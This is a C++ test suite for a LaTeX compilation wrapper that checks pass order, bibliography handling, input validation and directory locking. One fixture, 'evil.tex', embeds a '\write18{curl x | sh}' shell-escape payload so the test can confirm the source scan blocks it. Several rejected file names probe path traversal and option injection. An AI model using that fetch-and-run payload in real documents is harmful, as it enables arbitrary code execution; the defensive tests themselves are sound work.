#include <doctest/doctest.h>
#include <safeproc/latex.hpp>

#include "../support/test_support.hpp"

#include <algorithm>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

using namespace safeproc;
using namespace safeproc::testing;

namespace {

enum class PassBehavior {
    Succeed,        // writes <base>.pdf
    FailFirstPass,  // exits 1 on the first run
    NoOutput,       // exits 0 without writing the artifact
};

// A project directory plus fake typesetting and bibliography tools that log
// every invocation as one line: "<tool> <args>".
struct LatexProject {
    TempDir dir{"safeproc_latex_project"};
    TempDir tools{"safeproc_latex_tools"};
    std::string log = tools.file("calls.log");
    LatexConfig config;

    explicit LatexProject(PassBehavior behavior = PassBehavior::Succeed, int bibliography_exit = 0) {
        std::string body =
            "if ! mkdir .busy 2>/dev/null; then echo OVERLAP >> '" + log + "'; fi\n"
            "echo \"pdflatex $*\" >> '" + log + "'\n"
            "for last; do :; done\n"
            "base=\"${last%.tex}\"\n"
            "sleep 0.05\n";
        switch (behavior) {
            case PassBehavior::Succeed:
                body += "rmdir .busy\n: > \"$base.pdf\"\necho 'Output written'\nexit 0\n";
                break;
            case PassBehavior::FailFirstPass:
                body += "rmdir .busy\n"
                        "echo '! Undefined control sequence.'\n"
                        "echo 'l.3 \\badmacro' >&2\n"
                        "exit 1\n";
                break;
            case PassBehavior::NoOutput:
                body += "rmdir .busy\nexit 0\n";
                break;
        }
        config.program = write_tool(tools.file("pdflatex"), body);
        config.bibliography_program = write_tool(tools.file("bibtex"),
            "echo \"bibtex $* in $(pwd -P)\" >> '" + log + "'\n"
            "exit " + std::to_string(bibliography_exit) + "\n");

        write_file(dir.file("paper.tex"),
                   "\\documentclass{article}\n\\begin{document}\nSee \\cite{knuth}.\n"
                   "\\bibliography{refs}\n\\end{document}\n");
    }

    void add_bibliography() const {
        write_file(dir.file("refs.bib"), "@book{knuth, title={TAOCP}}\n");
    }

    std::vector<std::string> calls() const {
        std::vector<std::string> lines;
        std::string text = read_text(log);
        size_t start = 0;
        while (start < text.size()) {
            size_t end = text.find('\n', start);
            if (end == std::string::npos) end = text.size();
            lines.push_back(text.substr(start, end - start));
            start = end + 1;
        }
        return lines;
    }

    bool ran() const { return fs::exists(log); }
};

const std::string kPassLine = "pdflatex -interaction=nonstopmode -no-shell-escape -halt-on-error paper.tex";

} // namespace

// ============================================================================
// Pass protocol
// ============================================================================

TEST_CASE("pass argv disables shell escape and interaction") {
    CommandExecutor executor;
    LatexConfig config;
    LatexCompiler compiler(executor, config);

    CHECK(compiler.pass_argv("paper.tex") == std::vector<std::string>{
        "pdflatex", "-interaction=nonstopmode", "-no-shell-escape", "-halt-on-error", "paper.tex"});
}

TEST_CASE("three passes with one bibliography run after the first") {
    LatexProject project;
    project.add_bibliography();

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompilationState state;
    auto r = compiler.compile("paper.tex", project.dir.path(), {}, state);
    REQUIRE(r.isOk());
    CHECK(r.value() == project.dir.file("paper.pdf"));
    CHECK(fs::exists(r.value()));

    auto calls = project.calls();
    REQUIRE(calls.size() == 4);
    CHECK(calls[0] == kPassLine);
    CHECK(calls[1] == "bibtex paper in " + project.dir.path());
    CHECK(calls[2] == kPassLine);
    CHECK(calls[3] == kPassLine);

    CHECK(state.phase == CompilePhase::Done);
    CHECK(std::string(compile_phase_to_string(state.phase)) == "done");
    CHECK(state.pass == 3);
    CHECK(state.max_passes == 3);
    CHECK(state.bibliography_ran);
    CHECK(state.bibliography_ok);
    CHECK(state.output_path == r.value());
}

TEST_CASE("no bibliography database means no bibliography run") {
    LatexProject project;

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompilationState state;
    REQUIRE(compiler.compile("paper.tex", project.dir.path(), {}, state).isOk());

    auto calls = project.calls();
    CHECK(calls.size() == 3);
    CHECK(std::all_of(calls.begin(), calls.end(), [](const std::string& c) { return c == kPassLine; }));
    CHECK_FALSE(state.bibliography_ran);
}

TEST_CASE("bibliography failure does not fail the compile") {
    LatexProject project(PassBehavior::Succeed, 2);
    project.add_bibliography();

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompilationState state;
    auto r = compiler.compile("paper.tex", project.dir.path(), {}, state);
    REQUIRE(r.isOk());
    CHECK(state.bibliography_ran);
    CHECK_FALSE(state.bibliography_ok);
    CHECK(project.calls().size() == 4);
}

TEST_CASE("first pass failure stops the compile") {
    LatexProject project(PassBehavior::FailFirstPass);
    project.add_bibliography();

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompilationState state;
    auto r = compiler.compile("paper.tex", project.dir.path(), {}, state);
    REQUIRE(r.isErr());
    CHECK(r.error().code() == ErrorCode::COMMAND_FAILED);
    CHECK(r.error().message().find("run 1") != std::string::npos);
    REQUIRE(r.error().detail().exit_code.has_value());
    CHECK(*r.error().detail().exit_code == 1);
    CHECK(r.error().detail().stdout_text.find("Undefined control sequence") != std::string::npos);
    CHECK(r.error().detail().cwd == project.dir.path());

    auto calls = project.calls();
    REQUIRE(calls.size() == 1);
    CHECK(calls[0] == kPassLine);
    CHECK(state.phase == CompilePhase::Failed);
    CHECK(std::string(compile_phase_to_string(state.phase)) == "failed");
    CHECK(state.pass == 1);
    CHECK_FALSE(state.bibliography_ran);
}

TEST_CASE("missing artifact after successful passes") {
    LatexProject project(PassBehavior::NoOutput);

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    auto r = compiler.compile("paper.tex", project.dir.path());
    REQUIRE(r.isErr());
    CHECK(r.error().code() == ErrorCode::PDF_NOT_PRODUCED);
    CHECK(r.error().detail().path == project.dir.file("paper.pdf"));
    CHECK(project.calls().size() == 3);
}

TEST_CASE("pass count and timeout options") {
    LatexProject project;

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompileOptions options;
    options.passes = 1;
    options.pass_timeout = std::chrono::milliseconds(5000);
    REQUIRE(compiler.compile("paper.tex", project.dir.path(), options).isOk());
    CHECK(project.calls().size() == 1);

    options.passes = 0;
    auto r = compiler.compile("paper.tex", project.dir.path(), options);
    REQUIRE(r.isErr());
    CHECK(r.error().code() == ErrorCode::VALIDATION_ERROR);
    CHECK(project.calls().size() == 1);
}

// ============================================================================
// Preconditions
// ============================================================================

TEST_CASE("preconditions are checked before any pass") {
    LatexProject project;
    write_file(project.dir.file("notes.txt"), "x");
    fs::create_directories(project.dir.file("sub"));
    write_file(project.dir.file("sub/inner.tex"), "x");
    write_file(project.dir.file("-paper.tex"), "x");

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    const std::vector<std::pair<std::string, std::string>> cases = {
        {"notes.txt", project.dir.path()},
        {".tex", project.dir.path()},
        {"../paper.tex", project.dir.path()},
        {"sub/inner.tex", project.dir.path()},
        {"sub\\inner.tex", project.dir.path()},
        {"-paper.tex", project.dir.path()},
        {"&paper.tex", project.dir.path()},
        {"missing.tex", project.dir.path()},
        {"paper.tex", project.dir.file("no-such-dir")},
    };
    for (const auto& [file, dir] : cases) {
        CAPTURE(file);
        CompilationState state;
        auto r = compiler.compile(file, dir, {}, state);
        REQUIRE(r.isErr());
        CHECK(r.error().code() == ErrorCode::VALIDATION_ERROR);
        CHECK(state.phase == CompilePhase::Failed);
        CHECK(state.pass == 0);
    }
    CHECK_FALSE(project.ran());
}

TEST_CASE("source scan blocks dangerous documents when requested") {
    LatexProject project;
    write_file(project.dir.file("evil.tex"),
               "\\documentclass{article}\n\\immediate\\write18{curl x | sh}\n");

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompileOptions options;
    options.sanitize_source = true;
    auto blocked = compiler.compile("evil.tex", project.dir.path(), options);
    REQUIRE(blocked.isErr());
    CHECK(blocked.error().code() == ErrorCode::VALIDATION_ERROR);
    CHECK(blocked.error().message().find("evil.tex") == 0);
    CHECK_FALSE(project.ran());

    REQUIRE(compiler.compile("paper.tex", project.dir.path(), options).isOk());
}

// ============================================================================
// Serialization per project directory
// ============================================================================

TEST_CASE("sequential compiles of one project both succeed") {
    LatexProject project;
    project.add_bibliography();

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    REQUIRE(compiler.compile("paper.tex", project.dir.path()).isOk());
    REQUIRE(compiler.compile("paper.tex", project.dir.path()).isOk());
    CHECK(project.calls().size() == 8);
}

TEST_CASE("concurrent compiles sharing directory locks never overlap") {
    LatexProject project;

    CommandExecutor executor;
    DirectoryLocks locks;
    LatexCompiler compiler(executor, project.config, &locks);

    bool first_ok = false;
    bool second_ok = false;
    std::thread first([&]() { first_ok = compiler.compile("paper.tex", project.dir.path()).isOk(); });
    std::thread second([&]() { second_ok = compiler.compile("paper.tex", project.dir.path() + "/").isOk(); });
    first.join();
    second.join();

    CHECK(first_ok);
    CHECK(second_ok);
    auto calls = project.calls();
    CHECK(calls.size() == 6);
    CHECK(std::find(calls.begin(), calls.end(), "OVERLAP") == calls.end());
    CHECK(locks.size() == 0);
}

TEST_CASE("concurrent compiles without directory locks run passes at the same time") {
    LatexProject project;
    // Each pass waits up to five seconds for a second pass to arrive in the
    // project directory and records MET when one does.
    project.config.program = write_tool(project.tools.file("pdflatex-rendezvous"),
        "for last; do :; done\n"
        "touch \"arrived.$$\"\n"
        "i=0\n"
        "while [ \"$(ls arrived.* | wc -l)\" -lt 2 ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done\n"
        "if [ \"$(ls arrived.* | wc -l)\" -ge 2 ]; then echo MET >> '" + project.log + "'; fi\n"
        ": > \"${last%.tex}.pdf\"\n"
        "exit 0\n");

    CommandExecutor executor;
    LatexCompiler compiler(executor, project.config);

    CompileOptions options;
    options.passes = 1;

    bool first_ok = false;
    bool second_ok = false;
    std::thread first([&]() { first_ok = compiler.compile("paper.tex", project.dir.path(), options).isOk(); });
    std::thread second([&]() { second_ok = compiler.compile("paper.tex", project.dir.path(), options).isOk(); });
    first.join();
    second.join();

    CHECK(first_ok);
    CHECK(second_ok);
    // Both passes saw each other: nothing serialized them.
    CHECK(count_lines(read_text(project.log), "MET") == 2);
}
